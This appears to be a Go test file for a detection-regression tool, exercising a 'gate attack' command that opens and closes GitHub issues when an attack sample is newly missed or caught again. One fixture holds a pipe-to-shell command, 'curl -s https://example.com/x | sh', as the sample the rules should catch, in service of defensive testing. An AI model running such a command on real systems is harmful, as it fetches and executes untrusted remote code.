package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aigate/gate/gate/lab/attack"
	"github.com/aigate/gate/report/github/githubtest"
)

// night is `gate attack` on a runner, with a suite of one attack.
type night struct {
	t       *testing.T
	srv     *githubtest.Server
	dir     string
	env     map[string]string
	stderr  bytes.Buffer
	history string
}

func newNight(t *testing.T) *night {
	t.Helper()
	n := &night{t: t, srv: githubtest.New(t, "acme", "shop"), dir: t.TempDir()}
	n.history = filepath.Join(n.dir, "history.jsonl")
	n.env = map[string]string{"HOME": n.dir, "GITHUB_REPOSITORY": "acme/shop", "GITHUB_TOKEN": "secret-token", "GITHUB_API_URL": n.srv.URL, "GITHUB_SERVER_URL": "https://github.com", "GITHUB_RUN_ID": "42"}
	n.write("attack.yaml", "id: remote-one\ntitle: Gets a program\ntechnique: T1105\nlanguage: shell\ntries: runs what a server says\nentry: payload/get.sh\ncatch: [static]\ncontain: [network]\nruntimes: [runc, runsc]\nblind: false\n")
	n.write("twin/get.sh", "echo twin\n")
	n.caught(true)
	return n
}

func (n *night) write(name, text string) {
	n.t.Helper()
	file := filepath.Join(n.dir, "samples/group/remote-one", name)
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		n.t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
		n.t.Fatal(err)
	}
}

// caught makes the attack one that the rules know, or one that they miss.
func (n *night) caught(is bool) {
	n.write("payload/get.sh", map[bool]string{true: "curl -s https://example.com/x | sh\n", false: "echo quiet\n"}[is])
}

func (n *night) wantExit(want int, args ...string) {
	n.t.Helper()
	n.stderr.Reset()
	a := testApp()
	a.stdout, a.stderr, a.apiWait = &bytes.Buffer{}, &n.stderr, time.Millisecond
	a.getenv = func(k string) string { return n.env[k] }
	full := append([]string{"attack", filepath.Join(n.dir, "samples"), "--layers", "static", "--issue", "--history", n.history}, args...)
	if got := a.main(full); got != want {
		n.t.Fatalf("exit code %d, want %d\n%s", got, want, &n.stderr)
	}
	if strings.Contains(n.stderr.String(), "secret-token") {
		n.t.Error("the token is in the log")
	}
}

func TestAnIssueIsOpenWhileSomethingIsNoLongerStopped(t *testing.T) {
	n := newNight(t)
	base := filepath.Join(n.dir, "base.json")
	n.wantExit(exitPass, "--baseline", base, "--accept")
	n.srv.Lock(func(s *githubtest.State) {
		if len(s.Issues) != 0 {
			t.Errorf("an issue on a night without a regression: %+v", s.Issues)
		}
	})
	n.caught(false)
	n.wantExit(exitBlocked, "--baseline", base)
	n.wantExit(exitBlocked, "--baseline", base)
	if !strings.Contains(n.stderr.String(), "the issue is open: https://github.com/acme/shop/issues/") {
		t.Errorf("nothing says where the issue is: %s", &n.stderr)
	}
	n.srv.Lock(func(s *githubtest.State) {
		if len(s.Issues) != 1 || s.Issues[0].State != "open" || !strings.Contains(s.Issues[0].Body, "`remote-one`: newly missed") || !strings.Contains(s.Issues[0].Body, "https://github.com/acme/shop/actions/runs/42") {
			t.Errorf("%+v", s.Issues)
		}
	})
	n.caught(true)
	n.wantExit(exitPass, "--baseline", base)
	n.srv.Lock(func(s *githubtest.State) {
		if i := s.Issues[0]; i.State != "closed" || len(s.Comments[i.Number]) != 1 || !strings.Contains(s.Comments[i.Number][0].Body, "passes again") {
			t.Errorf("%+v", i)
		}
	})

	data, err := os.ReadFile(n.history)
	if err != nil {
		t.Fatal(err)
	}
	nights, err := attack.ParseHistory("history", data)
	if err != nil {
		t.Fatal(err)
	}
	got := ""
	for _, night := range nights {
		got += night.Decision.String() + strings.Join(night.Missed, ",") + " "
	}
	if got != "pass blockremote-one blockremote-one pass " {
		t.Errorf("the history says %q", got)
	}
}

func TestAnAlarmThatCannotBeSentIsNoPass(t *testing.T) {
	n := newNight(t)
	n.srv.FailWith(func(string, string, int, http.Header) int { return http.StatusForbidden })
	n.wantExit(exitIncomplete)
	if !strings.Contains(n.stderr.String(), "the issue: list the issues") {
		t.Errorf("the failure is not shown: %s", &n.stderr)
	}
	n.srv.FailWith(nil)
	n.env["GITHUB_REPOSITORY"] = ""
	n.wantExit(exitUsage)
}

func TestAHistoryThatIsNoneIsLeftAlone(t *testing.T) {
	n := newNight(t)
	if err := os.WriteFile(n.history, []byte("notes of mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	n.wantExit(exitIncomplete)
	if data, err := os.ReadFile(n.history); err != nil || string(data) != "notes of mine\n" {
		t.Errorf("%q, %v", data, err)
	}
	if !strings.Contains(n.stderr.String(), "history.jsonl:1: ") {
		t.Errorf("the line is not named: %s", &n.stderr)
	}
}
